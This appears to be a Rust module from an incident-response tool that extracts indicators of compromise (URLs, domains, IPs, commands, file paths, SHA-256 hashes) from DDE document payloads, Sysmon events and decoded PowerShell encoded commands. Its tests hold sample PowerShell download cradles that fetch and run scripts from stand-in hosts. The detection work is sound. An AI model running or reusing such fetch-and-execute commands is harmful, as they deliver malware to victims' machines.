//! Indicators of compromise out of an incident's rows: the DDE payloads' commands and the URLs,
//! domains and IPs in them (also inside PowerShell's `-EncodedCommand`), the domains and IPs
//! the chain's processes resolved and reached, the files they wrote, and the SHA-256 of the
//! documents and of the process images (Sysmon `Hashes`).

use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;

use base64::Engine as _;

use super::model::{Ioc, IocKind, Stage};
use crate::detect::Event;
use crate::profile::CorrelateRules;

/// The URLs written in `text` (and in a PowerShell encoded command inside it), verbatim.
pub fn urls_in(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut scan = |text: &str| {
        let mut finder = linkify::LinkFinder::new();
        finder.kinds(&[linkify::LinkKind::Url]);
        for link in finder.links(text) {
            let url = link
                .as_str()
                .trim_end_matches(['\'', '"', ')', ';', ',', '`']);
            if url.contains("://") && !found.iter().any(|f: &String| f == url) {
                found.push(url.to_owned());
            }
        }
    };
    scan(text);
    if let Some(decoded) = encoded_powershell(text) {
        scan(&decoded);
    }
    found
}

/// The script of a PowerShell `-EncodedCommand` (or a prefix of it: `-enc`, `-e`, `-ec`)
/// argument: base64 of UTF-16LE.
pub fn encoded_powershell(command: &str) -> Option<String> {
    let mut words = command.split_whitespace();
    while let Some(word) = words.next() {
        let flag = word.trim_start_matches(['-', '/']).to_ascii_lowercase();
        // PowerShell takes any prefix of -EncodedCommand from `-e` on, and the alias `-ec`.
        let is_flag = word.starts_with(['-', '/'])
            && flag.starts_with('e')
            && ("encodedcommand".starts_with(&flag) || flag == "ec");
        if !is_flag {
            continue;
        }
        let argument = words.next()?.trim_matches(['"', '\'']);
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(argument)
            .ok()?;
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
            .collect();
        return Some(String::from_utf16_lossy(&units));
    }
    None
}

/// The host of a URL: a domain (lower-case) or an IP address.
fn url_host(url: &str) -> Option<(IocKind, String)> {
    let parsed = url::Url::parse(url).ok()?;
    match parsed.host()? {
        url::Host::Domain(domain) => Some((IocKind::Domain, domain.to_ascii_lowercase())),
        url::Host::Ipv4(ip) => Some((IocKind::Ip, ip.to_string())),
        url::Host::Ipv6(ip) => Some((IocKind::Ip, ip.to_string())),
    }
}

/// The IP of `ip:port`, `[v6]:port`, or a bare address (also `::ffff:a.b.c.d`).
pub fn ip_of(text: &str) -> Option<String> {
    let text = text.trim().trim_end_matches(';');
    let ip = if let Ok(ip) = text.parse::<IpAddr>() {
        ip
    } else if let Some(rest) = text.strip_prefix('[') {
        rest.split_once(']')?.0.parse().ok()?
    } else {
        text.rsplit_once(':')?.0.parse().ok()?
    };
    let ip = match ip {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(IpAddr::V6(v6), IpAddr::V4),
        v4 => v4,
    };
    (!ip.is_loopback() && !ip.is_unspecified()).then(|| ip.to_string())
}

/// The SHA-256 in a Sysmon `Hashes` value (`SHA256=...,MD5=...`).
pub fn sha256_of_hashes(hashes: &str) -> Option<String> {
    hashes.split(',').find_map(|part| {
        let (name, value) = part.split_once('=')?;
        (name.trim().eq_ignore_ascii_case("sha256") && value.trim().len() == 64)
            .then(|| value.trim().to_ascii_lowercase())
    })
}

/// Collects the indicators of one run, host by host.
#[derive(Debug, Default)]
pub struct Collector {
    found: BTreeMap<(IocKind, String), Draft>,
}

#[derive(Clone, Debug, Default)]
struct Draft {
    context: String,
    hosts: BTreeSet<String>,
    incidents: BTreeSet<String>,
    first_seen: Option<i64>,
    rows: BTreeSet<String>,
    occurrences: usize,
}

/// Where an indicator was seen.
struct Seen<'a> {
    host: &'a str,
    incident: &'a str,
    event: &'a Event,
}

impl Collector {
    fn add(
        &mut self,
        rules: &CorrelateRules,
        seen: &Seen<'_>,
        kind: IocKind,
        value: String,
        context: String,
    ) {
        if value.is_empty() {
            return;
        }
        let ignored = |domain: &str| {
            rules.ioc_ignore_domains.iter().any(|d| {
                let d = d.to_ascii_lowercase();
                domain == d || domain.ends_with(&format!(".{d}"))
            })
        };
        let domain = match kind {
            IocKind::Domain => Some(value.clone()),
            IocKind::Url => url_host(&value)
                .filter(|(k, _)| *k == IocKind::Domain)
                .map(|(_, d)| d),
            _ => None,
        };
        if domain.is_some_and(|d| ignored(&d)) {
            return;
        }
        let draft = self.found.entry((kind, value)).or_default();
        if draft.context.is_empty() {
            draft.context = context;
        }
        draft.hosts.insert(seen.host.to_owned());
        draft.incidents.insert(seen.incident.to_owned());
        if draft.rows.insert(seen.event.row_id.clone()) {
            draft.occurrences += 1;
        }
        let t = seen.event.timestamp.unix_micros();
        draft.first_seen = Some(draft.first_seen.map_or(t, |f| f.min(t)));
    }

    fn add_urls(&mut self, rules: &CorrelateRules, seen: &Seen<'_>, text: &str, context: &str) {
        for url in urls_in(text) {
            if let Some((kind, host)) = url_host(&url) {
                self.add(
                    rules,
                    seen,
                    kind,
                    host,
                    format!("host of a URL in {context}"),
                );
            }
            self.add(rules, seen, IocKind::Url, url, context.to_owned());
        }
    }

    /// Adds the indicators of one incident's rows (`rows` with their stages).
    pub fn add_incident(
        &mut self,
        rules: &CorrelateRules,
        events: &[Event],
        rows: &BTreeMap<usize, Stage>,
        host: &str,
        incident: &str,
    ) {
        for (&i, &stage) in rows {
            let Some(event) = events.get(i) else { continue };
            let seen = Seen {
                host,
                incident,
                event,
            };
            let f = &event.fields;
            let image = f
                .image
                .as_deref()
                .map(|i| i.rsplit(['\\', '/']).next().unwrap_or(i).to_owned())
                .unwrap_or_default();
            match (event.data_type, stage) {
                (t, Stage::Document) if t.starts_with("ddesweep:document:") => {
                    let name = event
                        .source_path
                        .rsplit('/')
                        .next()
                        .unwrap_or(&event.source_path);
                    if let Some(command) = f.command.as_deref() {
                        let context = format!("DDE payload of {name}");
                        self.add_urls(rules, &seen, command, &context);
                        self.add(rules, &seen, IocKind::Command, command.to_owned(), context);
                    }
                    if let Some(sha) = &f.sha256 {
                        self.add(
                            rules,
                            &seen,
                            IocKind::Sha256,
                            sha.clone(),
                            format!("DDE document {name}"),
                        );
                    }
                }
                ("ddesweep:file:mark_of_the_web", _) => {
                    for url in [&f.host_url, &f.referrer_url].into_iter().flatten() {
                        self.add_urls(rules, &seen, url, "Mark of the Web of a DDE document");
                    }
                }
                (
                    "ddesweep:eventlog:process_start",
                    Stage::Execution | Stage::Descendant | Stage::Memory,
                ) => {
                    if let Some(command) = f.command.as_deref() {
                        let context = format!("command line of {image}");
                        self.add_urls(rules, &seen, command, &context);
                        self.add(rules, &seen, IocKind::Command, command.to_owned(), context);
                    }
                    if let Some(sha) = f.hashes.as_deref().and_then(sha256_of_hashes) {
                        self.add(
                            rules,
                            &seen,
                            IocKind::Sha256,
                            sha,
                            format!("image of {image}"),
                        );
                    }
                }
                ("ddesweep:eventlog:network_connection", _) => {
                    if let Some(ip) = f.destination.as_deref().and_then(ip_of) {
                        self.add(
                            rules,
                            &seen,
                            IocKind::Ip,
                            ip,
                            format!("{image} connected to it"),
                        );
                    }
                    if let Some(name) = &f.destination_hostname {
                        self.add(
                            rules,
                            &seen,
                            IocKind::Domain,
                            name.to_ascii_lowercase(),
                            format!("{image} connected to it"),
                        );
                    }
                }
                ("ddesweep:eventlog:dns_query", _) => {
                    if let Some(name) = &f.destination_hostname {
                        self.add(
                            rules,
                            &seen,
                            IocKind::Domain,
                            name.to_ascii_lowercase(),
                            format!("{image} looked it up"),
                        );
                    }
                    for answer in f.value.as_deref().unwrap_or("").split(';') {
                        if let Some(ip) = ip_of(answer) {
                            self.add(
                                rules,
                                &seen,
                                IocKind::Ip,
                                ip,
                                format!("DNS answer to {image}"),
                            );
                        }
                    }
                }
                ("ddesweep:eventlog:file_create", Stage::Activity) => {
                    if let Some(target) = &f.target_file {
                        self.add(
                            rules,
                            &seen,
                            IocKind::File,
                            target.clone(),
                            format!("written by {image}"),
                        );
                    }
                }
                _ => {}
            }
        }
    }

    /// Adds what another collector found (another host's indicators).
    pub fn merge(&mut self, other: Collector) {
        for (key, theirs) in other.found {
            let ours = self.found.entry(key).or_default();
            if ours.context.is_empty() {
                ours.context = theirs.context;
            }
            ours.hosts.extend(theirs.hosts);
            ours.incidents.extend(theirs.incidents);
            ours.rows.extend(theirs.rows);
            ours.occurrences = ours.rows.len();
            ours.first_seen = match (ours.first_seen, theirs.first_seen) {
                (Some(a), Some(b)) => Some(a.min(b)),
                (a, b) => a.or(b),
            };
        }
    }

    /// The indicators so far, by kind and value.
    pub fn snapshot(&self, max_rows: usize) -> Vec<Ioc> {
        self.found
            .iter()
            .map(|((kind, value), draft)| Ioc {
                kind: *kind,
                value: value.clone(),
                context: draft.context.clone(),
                hosts: draft.hosts.iter().cloned().collect(),
                incidents: draft.incidents.iter().cloned().collect(),
                first_seen: super::rfc3339(draft.first_seen.unwrap_or(0)),
                rows: draft.rows.iter().take(max_rows).cloned().collect(),
                occurrences: draft.occurrences,
            })
            .collect()
    }

    /// The indicators, by kind and value.
    pub fn finish(self, max_rows: usize) -> Vec<Ioc> {
        self.snapshot(max_rows)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_come_out_of_cradles_and_encoded_commands() {
        let cradle = "powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://remit-portal.example/a.ps1')";
        assert_eq!(urls_in(cradle), vec!["http://remit-portal.example/a.ps1"]);
        let script: Vec<u8> = "iwr http://198.51.100.9/x.ps1|iex"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let encoded = base64::engine::general_purpose::STANDARD.encode(script);
        assert_eq!(
            urls_in(&format!("powershell.exe -NoP -enc {encoded}")),
            vec!["http://198.51.100.9/x.ps1"]
        );
        assert_eq!(
            url_host("http://198.51.100.9/x"),
            Some((IocKind::Ip, "198.51.100.9".to_owned()))
        );
        assert_eq!(
            url_host("https://Remit-Portal.example:8443/a"),
            Some((IocKind::Domain, "remit-portal.example".to_owned()))
        );
    }

    #[test]
    fn addresses_lose_ports_and_mapping() {
        assert_eq!(ip_of("203.0.113.77:80").as_deref(), Some("203.0.113.77"));
        assert_eq!(
            ip_of("::ffff:203.0.113.77;").as_deref(),
            Some("203.0.113.77")
        );
        assert_eq!(ip_of("[2001:db8::1]:443").as_deref(), Some("2001:db8::1"));
        assert_eq!(ip_of("127.0.0.1:80"), None);
        assert_eq!(ip_of("type: 5 remit.example"), None);
        assert_eq!(
            sha256_of_hashes(&format!("MD5=00,SHA256={}", "AB".repeat(32))),
            Some("ab".repeat(32))
        );
    }
}
